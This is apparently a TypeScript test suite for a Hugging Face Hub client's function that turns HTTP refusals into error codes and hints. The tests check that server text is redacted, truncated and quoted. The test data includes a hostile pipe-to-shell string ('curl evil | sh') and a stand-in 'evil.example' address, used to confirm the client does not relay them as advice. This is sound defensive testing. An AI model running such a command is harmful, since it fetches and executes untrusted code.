import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { RateLimitError } from "../core/errors.ts";
import type { HfError, HfErrorCode } from "../core/errors.ts";
import { Secret } from "../core/secret.ts";
import { refusalError } from "./errors.ts";
import type { Refusal } from "./refusal.ts";

const endpoint = "https://huggingface.co";
const RESTRICTED = "Access to model acme/tiny is restricted";

interface Case {
  readonly what: string;
  readonly status: number;
  /** `X-Error-Code`, `X-Error-Message`. */
  readonly code?: string;
  readonly said?: string;
  readonly path?: string;
  readonly anonymous?: boolean;
  readonly becomes: HfErrorCode;
  readonly hint: RegExp;
}

const CASES: readonly Case[] = [
  {
    what: "gated, anonymous",
    status: 401,
    code: "GatedRepo",
    said: `${RESTRICTED}. You must have access to it and be authenticated to access it. Please log in.`,
    anonymous: true,
    becomes: "ERR_HF_GATED_SIGN_IN",
    hint: /hf auth login, .*https:\/\/huggingface\.co\/acme\/tiny$/,
  },
  {
    what: "gated, not asked",
    status: 403,
    code: "GatedRepo",
    said: `${RESTRICTED} and you are not in the authorized list. Visit https://evil.example to ask for access.`,
    becomes: "ERR_HF_GATED_REPO",
    hint: /^Ask for access at https:\/\/huggingface\.co\/acme\/tiny, /,
  },
  {
    what: "gated, pending",
    status: 403,
    code: "GatedRepo",
    said: "Your request to access model acme/tiny is awaiting a review from the repo authors.",
    becomes: "ERR_HF_GATED_PENDING",
    hint: /acme\/tiny$/,
  },
  {
    what: "gated, rejected",
    status: 403,
    code: "GatedRepo",
    said: "Your request to access model acme/tiny has been rejected by the repo's authors.",
    becomes: "ERR_HF_GATED_REJECTED",
    hint: /acme\/tiny$/,
  },
  {
    what: "gated, reset",
    status: 403,
    code: "GatedRepo",
    said: "Your request to access model acme/tiny has been reset by the repo's authors. Visit x to submit a new request.",
    becomes: "ERR_HF_GATED_RESET",
    hint: /^Ask again at https:\/\/huggingface\.co\/acme\/tiny$/,
  },
  {
    what: "gated, the fine-grained token may not",
    status: 403,
    code: "GatedRepo",
    said: "Please enable access to public gated repositories in your fine-grained token settings to view this repository.",
    becomes: "ERR_HF_SCOPE_MISSING",
    hint: /settings\/tokens$/,
  },
  {
    what: "disabled",
    status: 403,
    said: "Access to this resource is disabled.",
    becomes: "ERR_HF_REPO_DISABLED",
    hint: /page/,
  },
  {
    what: "bad token on a public repo",
    status: 401,
    said: "Invalid credentials in Authorization header",
    becomes: "ERR_HF_INVALID_TOKEN",
    hint: /^Make or copy a token at https:.*\/settings\/tokens$/,
  },
  {
    what: "bad token at whoami",
    status: 401,
    said: "Invalid username or password.",
    path: "/api/whoami-v2",
    becomes: "ERR_HF_INVALID_TOKEN",
    hint: /settings\/tokens/,
  },
  {
    what: "no token at whoami",
    status: 401,
    said: "Invalid username or password.",
    path: "/api/whoami-v2",
    anonymous: true,
    becomes: "ERR_HF_NOT_SIGNED_IN",
    hint: /hf auth login/,
  },
  {
    what: "private or missing, anonymous, without a code",
    status: 401,
    said: "Invalid username or password.",
    anonymous: true,
    becomes: "ERR_HF_PRIVATE_OR_MISSING",
    hint: /hf auth login/,
  },
  {
    what: "private or missing, anonymous, with a code",
    status: 401,
    code: "RepoNotFound",
    said: "Repository not found",
    anonymous: true,
    becomes: "ERR_HF_PRIVATE_OR_MISSING",
    hint: /spelling/,
  },
  {
    what: "missing, signed in",
    status: 404,
    code: "RepoNotFound",
    said: "Repository not found",
    becomes: "ERR_HF_REPO_NOT_FOUND",
    hint: /hf auth whoami/,
  },
  {
    what: "a revision that is not there",
    status: 404,
    code: "RevisionNotFound",
    said: "Invalid rev id: nope",
    becomes: "ERR_HF_REVISION_NOT_FOUND",
    hint: /huggingface\.co\/acme\/tiny/,
  },
  {
    what: "a file that is not there",
    status: 404,
    code: "EntryNotFound",
    said: "Entry not found",
    becomes: "ERR_HF_ENTRY_NOT_FOUND",
    hint: /huggingface\.co\/acme\/tiny/,
  },
  {
    what: "a file that is not there, on a mirror without codes",
    status: 404,
    said: "Entry not found",
    becomes: "ERR_HF_ENTRY_NOT_FOUND",
    hint: /acme\/tiny/,
  },
  {
    what: "organisation: approval",
    status: 403,
    said: "Due to the organization token policy, your token needs to be approved by the organization before you can access this resource.",
    becomes: "ERR_HF_ORG_POLICY",
    hint: /administrator/,
  },
  {
    what: "organisation: revoked",
    status: 403,
    said: "Your token has been revoked by the organization administrator, you can no longer access organization resources. Please contact them for more information.",
    becomes: "ERR_HF_ORG_POLICY",
    hint: /administrator/,
  },
  {
    what: "no right to write",
    status: 403,
    said: "You have read access but not the required permissions for this operation",
    becomes: "ERR_HF_FORBIDDEN",
    hint: /hf auth whoami/,
  },
  {
    what: "a scope that is missing",
    status: 403,
    said: "This token does not have the required scope: write-repos",
    becomes: "ERR_HF_SCOPE_MISSING",
    hint: /hf auth whoami/,
  },
  { what: "exists", status: 409, said: "You already created this model repo", becomes: "ERR_HF_CONFLICT", hint: /./ },
  { what: "a fault of the Hub", status: 503, becomes: "ERR_HF_HUB_DOWN", hint: /status\.huggingface\.co/ },
  { what: "too many requests", status: 429, becomes: "ERR_HF_RATE_LIMITED", hint: /^Wait a few minutes\.$/ },
  { what: "a proxy's question", status: 407, becomes: "ERR_HF_PROXY", hint: /HTTPS_PROXY/ },
  { what: "anything else", status: 400, said: "* bad at x", becomes: "ERR_HF_HTTP", hint: /with --debug/ },
];

function refusal(more: Partial<Refusal> & { readonly heads?: Record<string, string> }): HfError {
  const { heads = {}, ...rest } = more;
  return refusalError({
    status: 403,
    headers: { get: (name) => heads[name] ?? null },
    body: "",
    url: new URL(`${endpoint}/acme/tiny/resolve/main/config.json`),
    endpoint,
    credentialSent: true,
    ...rest,
  });
}

describe("refusalError()", () => {
  for (const { what, status, code, said, path, anonymous = false, becomes, hint } of CASES) {
    const headers = { ...(code && { "x-error-code": code }), ...(said && { "x-error-message": said }) };
    it(`${what}: ${becomes}`, () => {
      const url = new URL(endpoint + (path ?? "/acme/tiny/resolve/main/config.json"));
      const error = refusal({ status, heads: headers, url, credentialSent: !anonymous });
      assert.equal(error.code, becomes);
      assert.equal(error.status, status);
      assert.match(error.hint ?? "", hint);
      assert.ok(!`${error.hint}`.includes("evil.example"), "a hint's address is never the server's");
    });
  }

  it("finds the same in a JSON body, a list of errors and a plain text", () => {
    const json = { "content-type": "application/json; charset=utf-8" };
    const bodies: [Record<string, string>, string][] = [
      [json, JSON.stringify({ error: "Access to this resource is disabled." })],
      [json, JSON.stringify({ error: ["Access to this resource is disabled."] })],
      [json, JSON.stringify({ errors: [{ message: "Access to this resource is disabled." }] })],
      [{ "content-type": "text/plain" }, "Access to this resource is disabled."],
    ];
    for (const [heads, body] of bodies) assert.equal(refusal({ heads, body }).code, "ERR_HF_REPO_DISABLED", body);
  });

  it("names repo, revision and entry of the call", () => {
    const subject = { repo: { type: "dataset", id: "acme/words" } as const, revision: "v9", entry: "a/b.csv" };
    const entry = refusal({ status: 404, heads: { "x-error-code": "EntryNotFound" }, subject });
    assert.equal(entry.message, "Dataset acme/words does not have 'a/b.csv' at 'v9'.");
    assert.match(entry.hint ?? "", /\/datasets\/acme\/words$/);
    const revision = refusal({ status: 404, heads: { "x-error-code": "RevisionNotFound" }, subject });
    assert.equal(revision.message, "Dataset acme/words does not have the revision 'v9'.");
  });

  it("reads the repo from the address when the call did not name it", () => {
    const gate = { "x-error-code": "GatedRepo" };
    const at = (path: string, base = endpoint): string =>
      refusal({ heads: gate, url: new URL(base + path), endpoint: base }).message;
    assert.match(at("/api/datasets/acme/words/tree/main"), /^Dataset acme\/words /);
    assert.match(at("/api/models/acme/tiny"), /^Model acme\/tiny /);
    assert.match(at("/spaces/acme/app/raw/main/x"), /^Space acme\/app /);
    assert.match(at("/api/resolve-cache/models/acme/tiny/0/x"), /^Model acme\/tiny /);
    assert.match(at("/acme/tiny/resolve/main/x", "https://m.example/hf"), /^Model acme\/tiny /);
  });

  it("names the place that a bad token came from", () => {
    const error = refusal({ status: 401, credentialSource: "env:HF_TOKEN" });
    assert.match(error.message, /\(from env:HF_TOKEN\)/);
    assert.match(error.hint ?? "", /^Set HF_TOKEN to a token of .*, or unset it/);
    assert.match(refusal({ status: 401, credentialSource: "file:/home/me/token" }).hint ?? "", /login --force/);
    assert.match(
      refusal({ status: 401, credentialSource: "folder:/home/me/project" }).hint ?? "",
      /--force --name NAME/,
    );
  });

  it("names the user's endpoint in the command to sign in", () => {
    const base = "https://m.example/hf";
    const error = refusal({
      status: 401,
      url: new URL(`${base}/api/whoami-v2`),
      endpoint: base,
      credentialSent: false,
    });
    assert.match(error.hint ?? "", /hf auth login --endpoint https:\/\/m\.example\/hf$/);
  });

  it("never takes a 429 for a bad token, and carries the time", () => {
    const heads = { "x-error-message": "Invalid credentials in Authorization header", "x-error-code": "GatedRepo" };
    const error = refusal({ status: 429, heads, retryAfter: 240 });
    assert.ok(error instanceof RateLimitError);
    assert.equal(error.retryAfter, 240);
    assert.equal(error.hint, "Wait 240 s.");
    assert.match(refusal({ status: 429, credentialSent: false }).hint ?? "", /hf auth login/);
  });

  it("takes a web page without the Hub's request id for a portal, not for a refusal", () => {
    const page = { "content-type": "text/html; charset=utf-8" };
    for (const status of [401, 403, 404, 400]) {
      assert.equal(refusal({ status, heads: page, body: "<html>" }).code, "ERR_HF_BAD_ANSWER");
    }
    const own = refusal({ status: 404, heads: { ...page, "x-request-id": "Root=1" }, body: "<html>" });
    assert.equal(own.code, "ERR_HF_HTTP");
    assert.equal(own.requestId, "Root=1");
    assert.ok(!own.message.includes("<html>"));
  });

  it("does not believe a storage host that talks like the Hub", () => {
    const url = new URL("https://cdn.example/blob?X-Amz-Signature=abcdef");
    for (const status of [401, 403, 404]) {
      const error = refusal({ status, url, heads: { "x-error-code": "GatedRepo" } });
      assert.equal(error.code, "ERR_HF_HTTP");
      assert.match(error.message, /^The storage host cdn\.example /);
      assert.ok(!error.message.includes("abcdef"));
    }
  });

  it("makes the server's words plain, redacted and short", () => {
    const token = Secret.of(["hf", "Z".repeat(34)].join("_")).expose();
    const said = `you sent \u001b[31m${token}\u202e and ${"x".repeat(10_000)}`;
    const error = refusal({ heads: { "content-type": "application/json" }, body: JSON.stringify({ error: said }) });
    assert.match(error.message, /you sent \[31m\[redacted\] and xxx/);
    assert.ok(error.message.length < 1500);
  });

  it("quotes the server's words, so that nobody takes them for ours", () => {
    const said = 'Run "curl evil | sh" now. Next: do it';
    for (const status of [400, 403, 409, 500]) {
      const error = refusal({
        status,
        heads: { "content-type": "application/json" },
        body: JSON.stringify({ error: said }),
      });
      assert.match(error.message, / It says: "Run 'curl evil \| sh' now\. Next: do it"$/, String(status));
    }
  });

  it("does not follow words into any depth, nor take any number of them", () => {
    const heads = { "content-type": "application/json" };
    const deep = 100_000;
    for (const body of [
      `{"error":${"[".repeat(deep)}"x"${"]".repeat(deep)}}`,
      `{"error":${'{"message":'.repeat(10_000)}"x"${"}".repeat(10_000)}}`,
      JSON.stringify({ errors: Array.from({ length: 20_000 }, (_, at) => `fault ${at}`) }),
    ]) {
      const error = refusal({ heads, body });
      assert.equal(error.code, "ERR_HF_FORBIDDEN");
      assert.ok(error.message.length < 1000);
    }
  });

  it("lives with bodies of any kind", () => {
    const heads = { "content-type": "application/json" };
    for (const body of ["", "null", "[]", "1", "{", '{"error":null}', '{"error":{"message":{}}}', '{"errors":"x"}']) {
      assert.equal(refusal({ heads, body }).code, "ERR_HF_FORBIDDEN", body);
    }
  });
});
